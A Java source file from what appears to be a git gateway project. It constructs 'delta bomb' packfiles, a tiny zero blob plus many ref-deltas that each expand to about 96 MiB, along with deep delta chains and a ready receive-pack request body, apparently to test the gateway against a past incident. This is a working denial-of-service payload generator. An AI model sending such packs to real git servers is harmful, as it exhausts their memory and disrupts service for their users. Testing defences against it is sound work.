package ai.spboucher.spbgit.gateway;

import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.util.HexFormat;
import java.util.zip.Deflater;

/**
 * Packs that are small on the wire and expensive to unpack, built byte by byte as a hostile client
 * would (no git client writes them): a zero blob and many tiny ref-deltas that each copy it over
 * and over into a distinct large object, and chains of deltas on deltas. Each delta costs a few
 * dozen bytes: a copy instruction takes up to 16 MiB of its base in four bytes.
 */
public final class DeltaBomb {

  private static final int OBJ_BLOB = 3;
  private static final int OBJ_REF_DELTA = 7;
  private static final int MAX_COPY = 0xffffff;

  /**
   * What a pack is made of: its bytes and the id of the first object, a blob a ref may point at.
   */
  public record Pack(byte[] bytes, String blobId) {}

  private DeltaBomb() {}

  /**
   * The request body of the delta bomb from the incident: an 8 MiB zero blob and 100 deltas of 96
   * MiB each.
   */
  public static byte[] receivePackBody(String ref, String oldId) throws Exception {
    Pack pack = bomb(8 << 20, 100, 96L << 20);
    return request(ref, oldId, pack.blobId(), pack);
  }

  /**
   * A receive-pack request setting {@code ref} from {@code oldId} to {@code newId}, carrying {@code
   * pack}.
   */
  public static byte[] request(String ref, String oldId, String newId, Pack pack) {
    return new PktLines()
        .line(oldId + " " + newId + " " + ref + "\0report-status\n")
        .flush()
        .raw(pack.bytes())
        .bytes();
  }

  /**
   * A zero blob of {@code baseBytes}, then {@code deltas} ref-deltas on it, each building an object
   * of about {@code expandedBytes}: whole copies of the base, then eight bytes of its own so no two
   * are the same object.
   */
  public static Pack bomb(int baseBytes, int deltas, long expandedBytes) throws Exception {
    byte[] base = new byte[baseBytes];
    byte[] baseId = objectId(base);
    PackWriter pack = new PackWriter(1 + deltas);
    pack.whole(base);
    for (int i = 0; i < deltas; i++) {
      ByteArrayOutputStream delta = new ByteArrayOutputStream();
      long copies = Math.max(1, expandedBytes / baseBytes);
      writeVarint(delta, baseBytes);
      writeVarint(delta, copies * baseBytes + 8);
      for (long c = 0; c < copies; c++) {
        copy(delta, 0, baseBytes);
      }
      delta.write(8);
      delta.writeBytes(ByteBuffer.allocate(8).putLong(i).array());
      pack.refDelta(baseId, delta.toByteArray());
    }
    return new Pack(pack.finish(), HexFormat.of().formatHex(baseId));
  }

  /**
   * A chain of {@code depth} ref-deltas, each on the object the previous one built (the first on a
   * small blob), each adding one byte. The pack's blob id is the last object of the chain.
   */
  public static Pack chain(int depth) throws Exception {
    byte[] current = "delta chain base\n".getBytes(StandardCharsets.US_ASCII);
    PackWriter pack = new PackWriter(1 + depth);
    pack.whole(current);
    for (int i = 0; i < depth; i++) {
      ByteArrayOutputStream delta = new ByteArrayOutputStream();
      writeVarint(delta, current.length);
      writeVarint(delta, current.length + 1);
      copy(delta, 0, current.length);
      delta.write(1);
      delta.write('a' + i % 26);
      byte[] baseId = objectId(current);
      byte[] next = new byte[current.length + 1];
      System.arraycopy(current, 0, next, 0, current.length);
      next[current.length] = (byte) ('a' + i % 26);
      pack.refDelta(baseId, delta.toByteArray());
      current = next;
    }
    return new Pack(pack.finish(), HexFormat.of().formatHex(objectId(current)));
  }

  /** The git id of a blob holding {@code content}. */
  public static byte[] objectId(byte[] content) throws Exception {
    MessageDigest sha1 = MessageDigest.getInstance("SHA-1");
    sha1.update(("blob " + content.length + "\0").getBytes(StandardCharsets.US_ASCII));
    return sha1.digest(content);
  }

  /**
   * A copy instruction: offset and size each in up to four and three little-endian bytes, zeros
   * left out.
   */
  private static void copy(ByteArrayOutputStream delta, long offset, long size) {
    while (size > 0) {
      int n = (int) Math.min(size, MAX_COPY);
      int op = 0x80;
      ByteArrayOutputStream args = new ByteArrayOutputStream();
      for (int b = 0; b < 4; b++) {
        int v = (int) (offset >>> (8 * b)) & 0xff;
        if (v != 0) {
          op |= 1 << b;
          args.write(v);
        }
      }
      for (int b = 0; b < 3; b++) {
        int v = (n >>> (8 * b)) & 0xff;
        if (v != 0) {
          op |= 0x10 << b;
          args.write(v);
        }
      }
      delta.write(op);
      delta.writeBytes(args.toByteArray());
      offset += n;
      size -= n;
    }
  }

  private static void writeVarint(ByteArrayOutputStream out, long value) {
    while (value >= 0x80) {
      out.write((int) (value & 0x7f) | 0x80);
      value >>>= 7;
    }
    out.write((int) value);
  }

  /**
   * Pack format version 2: header, entries (type and size, a base id for ref-deltas, zlib data),
   * SHA-1.
   */
  private static final class PackWriter {
    private final ByteArrayOutputStream out = new ByteArrayOutputStream();

    PackWriter(int objects) {
      out.writeBytes("PACK".getBytes(StandardCharsets.US_ASCII));
      out.writeBytes(ByteBuffer.allocate(8).putInt(2).putInt(objects).array());
    }

    void whole(byte[] content) {
      header(OBJ_BLOB, content.length);
      out.writeBytes(deflate(content));
    }

    void refDelta(byte[] baseId, byte[] delta) {
      header(OBJ_REF_DELTA, delta.length);
      out.writeBytes(baseId);
      out.writeBytes(deflate(delta));
    }

    byte[] finish() throws Exception {
      out.writeBytes(MessageDigest.getInstance("SHA-1").digest(out.toByteArray()));
      return out.toByteArray();
    }

    private void header(int type, long size) {
      int first = (type << 4) | (int) (size & 0x0f);
      size >>>= 4;
      while (size > 0) {
        out.write(first | 0x80);
        first = (int) (size & 0x7f);
        size >>>= 7;
      }
      out.write(first);
    }

    private static byte[] deflate(byte[] data) {
      Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION);
      deflater.setInput(data);
      deflater.finish();
      ByteArrayOutputStream z = new ByteArrayOutputStream();
      byte[] buf = new byte[64 << 10];
      while (!deflater.finished()) {
        z.write(buf, 0, deflater.deflate(buf));
      }
      deflater.end();
      return z.toByteArray();
    }
  }
}
